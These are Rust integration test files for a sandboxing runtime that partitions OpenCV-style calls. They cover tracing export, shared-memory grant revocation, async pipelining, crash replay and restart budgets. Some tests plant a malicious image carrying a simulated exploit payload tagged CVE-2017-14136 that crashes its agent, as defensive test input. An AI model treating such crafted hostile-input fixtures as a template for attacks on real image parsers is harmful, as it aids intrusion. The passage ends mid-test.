    assert!(plain.tracer().audit_log().is_empty());
    assert!(plain.tracer().stats().is_empty());

    let mut traced = Runtime::install(standard_registry(), Policy::freepart());
    traced.enable_tracing();
    traced.kernel.reset_accounting();
    omr_shaped_pipeline(&mut traced);
    assert!(!traced.tracer().events().is_empty());

    // Tracing only reads the virtual clock; both runs land on the same
    // nanosecond and the same kernel counters.
    assert_eq!(plain.kernel.now_ns(), traced.kernel.now_ns());
    assert_eq!(plain.kernel.metrics(), traced.kernel.metrics());
}

#[test]
fn replay_after_crash_shows_up_as_journal_hit_and_restart_span() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    rt.kernel.camera = Some(Camera::new(7, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();

    let read = rt.registry().id_of("cv2.VideoCapture.read").unwrap();
    let partition = rt.partition_of(read);
    rt.inject_crash_before_response(partition);
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();

    let journal_hits: u64 = rt
        .tracer()
        .partition_rollup()
        .values()
        .map(|s| s.journal_hits)
        .sum();
    assert_eq!(journal_hits, 1, "retry must be answered from the journal");
    let phases: Vec<SpanPhase> = rt.tracer().events().iter().map(|e| e.phase).collect();
    assert!(phases.contains(&SpanPhase::Replay));
    assert!(phases.contains(&SpanPhase::Restart));
}

#[test]
fn chrome_export_gives_each_application_thread_its_own_row() {
    use freepart::ThreadId;

    // A budgeted, snapshotting policy so the same two-thread run can
    // also exercise the supervisor instants below.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            restart_budget: Some(RestartBudget {
                burst: 1,
                refill_ns: 1 << 40,
                backoff_ns: 100,
            }),
            ..Policy::freepart()
        },
    );
    rt.enable_tracing();
    rt.kernel
        .fs
        .put("/in.simg", fileio::encode_image(&Image::new(8, 8, 3), None));
    let writer = rt.spawn_thread();
    let img = rt
        .call_on(ThreadId::MAIN, "cv2.imread", &[Value::from("/in.simg")])
        .unwrap();
    rt.call_on(writer, "cv2.imwrite", &[Value::from("/out.simg"), img])
        .unwrap();

    // Supervisor events: a snapshot lost to an injected restore failure
    // (the restart burns the only budget token), then a crash whose
    // respawn is denied on the empty bucket.
    rt.kernel.camera = Some(Camera::new(5, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.inject_restore_failure(loading);
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    rt.restart_agent(loading);
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    rt.kernel.fs.put(
        "/evil.simg",
        fileio::encode_image(&Image::new(16, 16, 3), Some(&payload)),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    assert!(rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, AuditRecord::SnapshotLost { .. })));
    assert!(rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, AuditRecord::RestartDenied { .. })));

    let json = rt.export_chrome_trace();
    // One thread_name metadata row per application thread that emitted
    // events, so the two threads render as distinct Perfetto rows.
    assert!(
        json.contains("\"name\":\"thread_name\",\"pid\":0,\"tid\":0"),
        "main thread row missing"
    );
    assert!(
        json.contains(&format!(
            "\"name\":\"thread_name\",\"pid\":0,\"tid\":{}",
            writer.0
        )),
        "spawned thread row missing"
    );
    // And the spans themselves carry the real thread ids.
    assert!(json.contains(&format!("\"tid\":{},\"ts\"", writer.0)));

    // The supervisor actions render as global instant events on the
    // crash-storm timeline.
    assert!(
        json.contains("snapshot_lost"),
        "SnapshotLost instant missing"
    );
    assert!(
        json.contains("restart_denied"),
        "RestartDenied instant missing"
    );
    assert!(
        json.contains("\"cat\":\"supervisor\""),
        "supervisor category missing"
    );
    assert!(
        json.contains("\"ph\":\"i\"") && json.contains("\"s\":\"g\""),
        "supervisor events must be global-scope instants"
    );
}

#[test]
fn a_poller_consuming_incrementally_sees_every_record_exactly_once() {
    // The adaptive-controller consumption pattern: poll
    // `events_since`/`audit_since` between calls, resuming each poll at
    // the previous high-water mark. The concatenation of the polls must
    // equal the full log — nothing dropped, nothing duplicated.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(16, 16, 3), None),
    );

    let mut seen_events = Vec::new();
    let mut seen_audit = Vec::new();
    let mut ev_mark = 0;
    let mut audit_mark = 0;
    let mut poll = |rt: &Runtime, ev_mark: &mut usize, audit_mark: &mut usize| {
        let t = rt.tracer();
        seen_events.extend(t.events_since(*ev_mark).iter().cloned());
        seen_audit.extend(t.audit_since(*audit_mark).iter().cloned());
        *ev_mark = t.events().len();
        *audit_mark = t.audit_log().len();
    };

    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    poll(&rt, &mut ev_mark, &mut audit_mark);
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    poll(&rt, &mut ev_mark, &mut audit_mark);
    // An idle poll between calls yields nothing new.
    poll(&rt, &mut ev_mark, &mut audit_mark);
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), gray])
        .unwrap();
    poll(&rt, &mut ev_mark, &mut audit_mark);

    assert!(!seen_events.is_empty() && !seen_audit.is_empty());
    assert_eq!(seen_events, rt.tracer().events());
    assert_eq!(seen_audit, rt.tracer().audit_log());
}

#[test]
fn chrome_export_names_host_and_every_partition() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    rt.kernel.reset_accounting();
    omr_shaped_pipeline(&mut rt);
    rt.trace_mark("omr:done");

    let json = rt.export_chrome_trace();
    assert!(json.starts_with('{') && json.ends_with('}'));
    assert!(json.contains("\"traceEvents\""));
    assert!(json.contains("\"name\":\"host\""));
    for (_, label) in rt.partition_labels() {
        assert!(json.contains(&label), "partition row missing: {label}");
    }
    assert!(json.contains("cv2.imread"), "Call spans carry API names");
    assert!(json.contains("omr:done"), "driver marks are exported");
}
