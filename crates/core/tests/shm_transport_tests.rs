//! Tests for the zero-copy shared-memory transport: temporal grants,
//! revoke-at-transition ordering in the audit log, counter surfacing in
//! [`RuntimeStats`], and the host-resident fast path of `fetch_bytes`.

use freepart::{AuditRecord, Policy, Runtime, SpanPhase};
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};

/// Drives the OMR grader's call shape with a payload large enough to
/// clear [`Policy::DEFAULT_SHM_THRESHOLD`] (32×32×3 = 3072 bytes), so
/// image objects ride the segment path under [`Policy::freepart_shm`].
fn shm_sized_pipeline(rt: &mut Runtime) -> Value {
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(32, 32, 3), None),
    );
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rt.call("cv2.cvtColor", std::slice::from_ref(&img)).unwrap();
    let smooth = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    let thresh = rt.call("cv2.threshold", &[smooth]).unwrap();
    rt.call("cv2.findContours", std::slice::from_ref(&thresh))
        .unwrap();
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), thresh])
        .unwrap();
    img
}

#[test]
fn runtime_stats_surface_the_kernel_shm_counters() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
    shm_sized_pipeline(&mut rt);

    let stats = rt.stats();
    let m = rt.kernel.metrics();
    assert!(stats.shm_grants > 0, "large payloads must ride shm");
    assert!(stats.shm_revokes > 0, "transitions must revoke stale views");
    assert!(stats.shm_mapped_bytes > 0);
    assert_eq!(stats.shm_grants, m.shm_grants);
    assert_eq!(stats.shm_revokes, m.shm_revokes);
    assert_eq!(stats.shm_mapped_bytes, m.shm_mapped_bytes);

    // Off by default: the same pipeline under plain FreePart never
    // touches a segment.
    let mut plain = Runtime::install(standard_registry(), Policy::freepart());
    shm_sized_pipeline(&mut plain);
    assert_eq!(plain.stats().shm_grants, 0);
    assert_eq!(plain.stats().shm_mapped_bytes, 0);
}

#[test]
fn state_transitions_revoke_out_of_state_grants() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(32, 32, 3), None),
    );
    let loader_pid = {
        let api = rt.registry().id_of("cv2.imread").unwrap();
        rt.agent(rt.partition_of(api)).unwrap().pid
    };
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // The processing call promotes the image into a segment; the loader
    // (its creator and previous home) holds the owner grant. (cvtColor
    // would not do: it is type-neutral and runs in the loader itself.)
    let gray = rt
        .call("cv2.GaussianBlur", std::slice::from_ref(&img))
        .unwrap();
    let img_id = img.as_obj().unwrap();
    let (seg, _) = rt.objects.meta(img_id).unwrap().shm.expect("promoted");
    assert!(
        rt.kernel
            .shm_segment(seg)
            .unwrap()
            .grant_of(loader_pid)
            .is_some(),
        "creator keeps its view while the state holds"
    );
    // Storing transition: the drain barrier fires and every grant not
    // held by the segment's current home is torn down.
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), gray])
        .unwrap();
    assert!(
        rt.kernel
            .shm_segment(seg)
            .unwrap()
            .grant_of(loader_pid)
            .is_none(),
        "out-of-state grant must be revoked at the transition"
    );
    assert!(
        rt.kernel.shm_read(loader_pid, seg).is_err(),
        "revoked process must fault on access"
    );
    let home = rt.objects.meta(img_id).unwrap().home;
    assert!(
        rt.kernel.shm_segment(seg).unwrap().grant_of(home).is_some(),
        "the current home keeps its view"
    );
    assert!(rt.stats().shm_revokes >= 1);
}

#[test]
fn revoke_audit_records_never_straddle_a_state_transition() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
    rt.enable_tracing();
    shm_sized_pipeline(&mut rt);

    let audit = rt.tracer().audit_log();
    let revokes: Vec<(usize, u64, u64)> = audit
        .iter()
        .enumerate()
        .filter_map(|(i, r)| match r {
            AuditRecord::ShmRevoke { at_ns, seq, .. } => Some((i, *at_ns, *seq)),
            _ => None,
        })
        .collect();
    assert!(!revokes.is_empty(), "pipeline must revoke at transitions");
    assert_eq!(revokes.len() as u64, rt.stats().shm_revokes);

    // Every revoke belongs to exactly one transition: scanning forward
    // from a ShmRevoke, only sibling revokes of the same call may
    // intervene before the StateTransition record that closes it.
    for &(i, _, seq) in &revokes {
        let mut j = i + 1;
        loop {
            match audit.get(j) {
                Some(AuditRecord::ShmRevoke { seq: s, .. }) if *s == seq => j += 1,
                Some(AuditRecord::StateTransition { .. }) => break,
                other => panic!(
                    "revoke (seq {seq}) must be closed by its StateTransition, found {other:?}"
                ),
            }
        }
    }

    // The barrier property: the queue is drained before the sweep, so
    // no agent-side execution interval contains a revoke instant.
    for e in rt.tracer().events() {
        if e.phase != SpanPhase::Execute {
            continue;
        }
        for &(_, at_ns, _) in &revokes {
            assert!(
                at_ns <= e.start_ns || at_ns >= e.end_ns,
                "revoke at {at_ns} straddles an Execute span [{}, {}]",
                e.start_ns,
                e.end_ns
            );
        }
    }
}

#[test]
fn host_resident_fetch_is_free_of_ipc_and_timeline_merges() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_pipelining();
    let payload: Vec<u8> = (0..=255).collect();
    let id = rt.host_data("cfg", &payload);

    let before = rt.kernel.metrics();
    let bytes = rt.fetch_bytes(id).unwrap();
    let delta = rt.kernel.metrics().since(&before);

    assert_eq!(bytes, payload);
    assert_eq!(delta.ipc_messages, 0, "no RPC for a host-resident object");
    assert_eq!(
        delta.timeline_merges, 0,
        "no merge against its own timeline"
    );
}

#[test]
fn chrome_trace_carries_shm_grant_and_revoke_instants() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
    rt.enable_tracing();
    shm_sized_pipeline(&mut rt);

    let json = rt.export_chrome_trace();
    assert!(
        json.contains("\"cat\":\"shm\""),
        "shm instant events present"
    );
    assert!(json.contains("shm_grant "));
    assert!(json.contains("shm_revoke "));
    // Deliveries trace as page-map spans, not data copies.
    assert!(
        rt.tracer()
            .events()
            .iter()
            .any(|e| e.phase == SpanPhase::ShmMap),
        "shm deliveries record shm_map spans"
    );
}
