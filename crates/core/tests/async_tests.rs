//! End-to-end tests of the asynchronous hooked-call layer: the sync
//! path is exactly `call_async` + immediate `wait`, pipelining shrinks
//! the makespan without changing results, state transitions drain all
//! in-flight calls (the security barrier), the per-partition window
//! bounds both the queue and the completion journal, and journal
//! pruning never drops a seq the host has not acknowledged.

use freepart::{AuditRecord, CallHandle, Policy, Runtime, SpanPhase, ThreadId};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};
use freepart_simos::device::Camera;

fn seed(rt: &mut Runtime, n: u32) {
    for i in 0..n {
        rt.kernel.fs.put(
            &format!("/in-{i}.simg"),
            fileio::encode_image(&Image::new(12, 12, 3), None),
        );
    }
}

#[test]
fn sync_call_is_async_submit_plus_immediate_wait_on_the_same_nanosecond() {
    let mut a = Runtime::install(standard_registry(), Policy::freepart());
    let mut b = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut a, 1);
    seed(&mut b, 1);

    let mut ticks_a = Vec::new();
    let img = a.call("cv2.imread", &[Value::from("/in-0.simg")]).unwrap();
    ticks_a.push(a.kernel.now_ns());
    let gray = a.call("cv2.cvtColor", &[img]).unwrap();
    ticks_a.push(a.kernel.now_ns());
    let edges = a.call("cv2.Canny", &[gray]).unwrap();
    ticks_a.push(a.kernel.now_ns());
    a.call("cv2.imwrite", &[Value::from("/out.simg"), edges])
        .unwrap();
    ticks_a.push(a.kernel.now_ns());

    let mut ticks_b = Vec::new();
    let h = b
        .call_async("cv2.imread", &[Value::from("/in-0.simg")])
        .unwrap();
    let img = b.wait(h).unwrap();
    ticks_b.push(b.kernel.now_ns());
    let h = b.call_async("cv2.cvtColor", &[img]).unwrap();
    let gray = b.wait(h).unwrap();
    ticks_b.push(b.kernel.now_ns());
    let h = b.call_async("cv2.Canny", &[gray]).unwrap();
    let edges = b.wait(h).unwrap();
    ticks_b.push(b.kernel.now_ns());
    let h = b
        .call_async("cv2.imwrite", &[Value::from("/out.simg"), edges])
        .unwrap();
    b.wait(h).unwrap();
    ticks_b.push(b.kernel.now_ns());

    // Not just the same final time: the same nanosecond after every call.
    assert_eq!(ticks_a, ticks_b);
    assert_eq!(a.kernel.metrics(), b.kernel.metrics());
    assert_eq!(a.stats().rpc_calls, b.stats().rpc_calls);
}

#[test]
fn waiting_twice_returns_the_cached_outcome() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut rt, 1);
    let h = rt
        .call_async("cv2.imread", &[Value::from("/in-0.simg")])
        .unwrap();
    let first = rt.wait(h).unwrap();
    let ns = rt.kernel.now_ns();
    let second = rt.wait(h).unwrap();
    assert_eq!(first, second);
    assert_eq!(rt.kernel.now_ns(), ns, "a second wait is free");
    // A handle that was never issued is an error, not a hang.
    assert!(rt.wait(CallHandle::default()).is_err());
}

#[test]
fn pipelined_cross_thread_overlap_shrinks_the_makespan() {
    const N: u32 = 6;
    // Sequential baseline: the same calls on the same two threads.
    let mut sync_rt = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut sync_rt, N);
    let proc_t = sync_rt.spawn_thread();
    let mut sync_out = Vec::new();
    for i in 0..N {
        let img = sync_rt
            .call_on(
                ThreadId::MAIN,
                "cv2.imread",
                &[Value::Str(format!("/in-{i}.simg"))],
            )
            .unwrap();
        let blur = sync_rt.call_on(proc_t, "cv2.GaussianBlur", &[img]).unwrap();
        sync_out.push(sync_rt.fetch_bytes(blur.as_obj().unwrap()).unwrap());
    }
    let sync_ns = sync_rt.kernel.now_ns();

    // Pipelined: loading of frame i+1 overlaps processing of frame i.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut rt, N);
    let proc_t = rt.spawn_thread();
    rt.enable_pipelining();
    let mut handles = Vec::new();
    for i in 0..N {
        let h = rt
            .call_async_on(
                ThreadId::MAIN,
                "cv2.imread",
                &[Value::Str(format!("/in-{i}.simg"))],
            )
            .unwrap();
        let img = rt.promise(h).unwrap();
        handles.push(
            rt.call_async_on(proc_t, "cv2.GaussianBlur", &[img])
                .unwrap(),
        );
    }
    let mut pip_out = Vec::new();
    for h in handles {
        let blur = rt.wait(h).unwrap();
        pip_out.push(rt.fetch_bytes(blur.as_obj().unwrap()).unwrap());
    }
    rt.drain_inflight();
    assert_eq!(rt.in_flight(), 0);
    assert_eq!(pip_out, sync_out, "pipelining never changes results");
    assert!(
        rt.kernel.makespan_ns() < sync_ns,
        "overlapped makespan {} should beat sequential {}",
        rt.kernel.makespan_ns(),
        sync_ns
    );
    assert!(rt.kernel.metrics().timeline_merges > 0);
}

#[test]
fn state_transitions_drain_every_in_flight_call_and_audit_once() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    seed(&mut rt, 4);
    rt.enable_pipelining();

    // A burst per framework state on one thread: Loading → Processing →
    // Storing. Each burst's first call would transition, so it must
    // drain the previous burst before the mprotect storm.
    let loads: Vec<_> = (0..4)
        .map(|i| {
            rt.call_async("cv2.imread", &[Value::Str(format!("/in-{i}.simg"))])
                .unwrap()
        })
        .collect();
    let imgs: Vec<Value> = loads.iter().map(|h| rt.promise(*h).unwrap()).collect();
    let blurs: Vec<_> = imgs
        .iter()
        .map(|img| {
            rt.call_async("cv2.GaussianBlur", std::slice::from_ref(img))
                .unwrap()
        })
        .collect();
    for (i, h) in blurs.iter().enumerate() {
        let blur = rt.promise(*h).unwrap();
        rt.call_async("cv2.imwrite", &[Value::Str(format!("/out-{i}.simg")), blur])
            .unwrap();
    }
    rt.drain_inflight();

    let transitions: Vec<u64> = rt
        .tracer()
        .audit_log()
        .iter()
        .filter_map(|r| match r {
            AuditRecord::StateTransition { at_ns, .. } => Some(*at_ns),
            _ => None,
        })
        .collect();
    // Exactly one audit record per transition, pipelining or not.
    assert_eq!(transitions.len() as u64, rt.stats().transitions);
    assert!(
        transitions.len() >= 2,
        "pipeline crosses at least two states"
    );

    // The barrier: no API body may execute across an mprotect storm.
    // Drained calls complete before the transition; later calls start
    // after it (their agents merge past the post-transition request).
    for e in rt.tracer().events() {
        if e.phase != SpanPhase::Execute {
            continue;
        }
        for &t in &transitions {
            assert!(
                !(e.start_ns < t && t < e.end_ns),
                "execute span [{}, {}] straddles the transition at {}",
                e.start_ns,
                e.end_ns,
                t
            );
        }
    }
}

#[test]
fn pipeline_window_bounds_in_flight_calls_and_the_journal() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed(&mut rt, 8);
    rt.enable_pipelining();
    rt.set_pipeline_window(2);
    let partition = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    for i in 0..8 {
        rt.call_async("cv2.imread", &[Value::Str(format!("/in-{i}.simg"))])
            .unwrap();
        assert!(rt.in_flight() <= 2, "window of 2 exceeded at call {i}");
        // The journal holds only the un-acked window, not the whole run.
        assert!(rt.agent(partition).unwrap().journal_len() <= 2);
    }
    rt.drain_inflight();
    assert_eq!(rt.in_flight(), 0);
    assert_eq!(rt.agent(partition).unwrap().journal_len(), 0);
    assert!(rt.agent(partition).unwrap().journal_watermark() > 0);
}

#[test]
fn journal_pruning_never_drops_an_unacked_seq() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.kernel.camera = Some(Camera::new(11, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    let read = rt.registry().id_of("cv2.VideoCapture.read").unwrap();
    let partition = rt.partition_of(read);
    for _ in 0..5 {
        rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
            .unwrap();
    }
    // Synchronous calls ack as they retire: everything is pruned.
    assert_eq!(rt.agent(partition).unwrap().journal_len(), 0);
    let watermark = rt.agent(partition).unwrap().journal_watermark();
    assert!(watermark > 0);

    // Crash after journalling, before the host consumes the response:
    // that seq is above the ack watermark, so pruning must have left it
    // in place for the retry to replay.
    rt.inject_crash_before_response(partition);
    let restarts = rt.stats().restarts;
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    assert_eq!(rt.stats().restarts, restarts + 1, "agent really crashed");
    // Exactly once: replayed from the journal, not re-executed.
    assert_eq!(rt.kernel.camera.as_ref().unwrap().frames_served(), 6);
    // The replayed seq is acked and pruned in turn.
    assert_eq!(rt.agent(partition).unwrap().journal_len(), 0);
    assert!(rt.agent(partition).unwrap().journal_watermark() > watermark);
}
