//! Regression tests for the supervised agent-restart path: crash
//! cleanup (reaping, shm-view revocation), snapshot-restore failure
//! handling, seal-failure handling, restart budgets, warm spares,
//! incremental snapshots — and a crash-storm property test holding the
//! exactly-once and audit-accounting invariants under random crash
//! points.

use freepart::{AuditRecord, CallError, Policy, RestartBudget, Runtime};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};
use freepart_simos::device::Camera;
use freepart_simos::FaultKind;
use proptest::prelude::*;

fn seed_image(rt: &mut Runtime, path: &str) {
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

fn seed_evil(rt: &mut Runtime, path: &str) {
    let img = Image::new(16, 16, 3);
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    rt.kernel
        .fs
        .put(path, fileio::encode_image(&img, Some(&payload)));
}

/// A tight budget that never refills within a test's virtual lifetime.
fn tight_budget(burst: u32) -> RestartBudget {
    RestartBudget {
        burst,
        refill_ns: 1 << 40,
        backoff_ns: 100,
    }
}

// ----------------------------------------------------------------------
// Crash cleanup: the reap-on-respawn path (bugfix: `restart_agent_on`
// used to leak the crashed pid's address space and shm views forever).
// ----------------------------------------------------------------------

#[test]
fn restart_reaps_the_corpse_and_revokes_its_shm_views() {
    // Shm-threshold 1 so even a small Mat rides a segment and the dead
    // agent holds revocable views when it crashes.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            shm_threshold: Some(1),
            ..Policy::freepart()
        },
    );
    rt.enable_tracing();
    seed_image(&mut rt, "/ok.simg");
    // The cross-agent move (loading → processing) promotes the payload
    // into a segment and hands the processing agent a view.
    let img = rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    let processing = rt.partition_of(rt.registry().id_of("cv2.GaussianBlur").unwrap());
    let old_pid = rt.agent(processing).unwrap().pid;
    assert!(
        rt.kernel
            .shm_segments()
            .any(|(_, s)| s.grant_of(old_pid).is_some()),
        "the agent held at least one live shm view before the crash"
    );
    rt.kernel.deliver_fault(old_pid, FaultKind::Abort, None);
    let img = rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    // The corpse is gone from the kernel entirely...
    assert!(rt.kernel.process(old_pid).is_err(), "pid reaped");
    assert!(rt.kernel.metrics().reaps >= 1);
    // ...including every grant/map entry it held, with the revocations
    // audited like any temporal-grant teardown.
    for (id, seg) in rt.kernel.shm_segments() {
        assert_eq!(seg.grant_of(old_pid), None, "stale grant on {id}");
        assert!(!seg.is_mapped(old_pid), "stale mapping on {id}");
    }
    assert!(
        rt.tracer()
            .audit_log()
            .iter()
            .any(|r| matches!(r, AuditRecord::ShmRevoke { pid, .. } if *pid == old_pid)),
        "reaping audits the revoked views"
    );
}

#[test]
fn a_thousand_restarts_leak_no_pages_and_no_stale_grants() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
    seed_image(&mut rt, "/ok.simg");
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    // Warm-up pass so the steady-state page population (host pages, live
    // agents, already-loaded objects) is established before we measure.
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let mut high_water = 0u64;
    for round in 0..1000 {
        let pid = rt.agent(loading).unwrap().pid;
        rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
        rt.call("cv2.imread", &[Value::from("/ok.simg")])
            .unwrap_or_else(|e| panic!("round {round}: {e}"));
        if round == 10 {
            high_water = rt.kernel.total_pages();
        }
    }
    assert!(rt.stats().restarts >= 1000);
    assert!(rt.kernel.metrics().reaps >= 1000, "every corpse was reaped");
    // Kernel pages stay bounded: the dead address spaces really free.
    // (Without reaping this grows by several pages per restart.)
    assert!(
        rt.kernel.total_pages() <= high_water + 64,
        "pages grew from {high_water} to {} over 1000 restarts",
        rt.kernel.total_pages()
    );
    // No segment anywhere holds a grant or mapping for a dead pid.
    for (id, seg) in rt.kernel.shm_segments() {
        for (pid, _) in seg.grants() {
            assert!(rt.kernel.is_running(pid), "stale grant for {pid} on {id}");
        }
    }
}

// ----------------------------------------------------------------------
// Snapshot-path bugfixes: retirement with the agent record gone, and
// restore failures that used to leave `meta.home` dangling at a dead
// pid.
// ----------------------------------------------------------------------

#[test]
fn retirement_survives_a_partition_degraded_with_calls_in_flight() {
    // snapshot_interval 1 puts the snapshot cadence on every retirement
    // — the exact path that used to panic via `self.agents[&partition]`
    // when the supervisor had removed the agent record mid-flight.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            restart_budget: Some(tight_budget(1)),
            ..Policy::freepart()
        },
    );
    rt.enable_tracing();
    seed_image(&mut rt, "/ok.simg");
    seed_evil(&mut rt, "/evil.simg");
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    // A healthy call left in flight (executed agent-side, not retired).
    let healthy = rt
        .call_async("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap();
    // The adversary burns the only restart token (crash → restart →
    // retry crashes again)...
    let crashed = rt
        .call_async("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap();
    // ...and the next call finds the bucket empty: the partition
    // degrades, the agent record is removed, the corpse reaped.
    let err = rt
        .call("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::AgentUnavailable(p) if p == loading));
    assert!(rt.is_degraded(loading));
    // Retiring the in-flight calls now runs with no agent record — this
    // panicked before the fix; the healthy call's result must survive.
    let v = rt.wait(healthy).expect("completed before the storm");
    assert!(v.as_obj().is_some());
    assert!(matches!(
        rt.wait(crashed).unwrap_err(),
        CallError::AgentCrashed(_)
    ));
    assert!(rt.tracer().audit_log().iter().any(
        |r| matches!(r, AuditRecord::RestartDenied { partition, .. } if *partition == loading)
    ));
}

#[test]
fn failed_restore_audits_quarantines_and_never_dangles() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            ..Policy::freepart()
        },
    );
    rt.enable_tracing();
    rt.kernel.camera = Some(Camera::new(5, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    let cap_id = cap.as_obj().unwrap();
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    // Force the next restart's restore to fail, then crash the agent.
    rt.inject_restore_failure(loading);
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    rt.restart_agent(loading);
    // The failure is audited...
    assert!(
        rt.tracer()
            .audit_log()
            .iter()
            .any(|r| matches!(r, AuditRecord::SnapshotLost { object, .. } if *object == cap_id)),
        "restore failure must be audited"
    );
    // ...the object is fully quarantined (no dangling `home` at the
    // reaped pid)...
    assert!(rt.objects.meta(cap_id).is_none(), "no dangling metadata");
    // ...and later uses fail loudly instead of resolving against a
    // corpse.
    let err = rt
        .call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap_err();
    assert!(
        matches!(err, CallError::StateLost(id) if id == cap_id),
        "{err:?}"
    );
    // The partition itself is healthy — only the lost object is gone.
    seed_image(&mut rt, "/ok.simg");
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
}

// ----------------------------------------------------------------------
// Seal-failure bugfix: `install_filter` failing silently left the agent
// running unsandboxed with `sealed = false`.
// ----------------------------------------------------------------------

#[cfg(debug_assertions)]
#[test]
#[should_panic(expected = "install_filter failed")]
fn seal_failure_panics_in_debug_builds() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    seed_image(&mut rt, "/ok.simg");
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    // An already-locked process configuration makes `install_filter`
    // return `Eperm` when the first completed call tries to seal.
    rt.kernel.process_mut(pid).unwrap().no_new_privs = true;
    let _ = rt.call("cv2.imread", &[Value::from("/ok.simg")]);
}

#[cfg(not(debug_assertions))]
#[test]
fn seal_failure_degrades_and_audits_in_release_builds() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.enable_tracing();
    seed_image(&mut rt, "/ok.simg");
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.process_mut(pid).unwrap().no_new_privs = true;
    // The call itself completed before sealing, so it succeeds...
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    // ...but the partition must not keep serving unsandboxed: it is
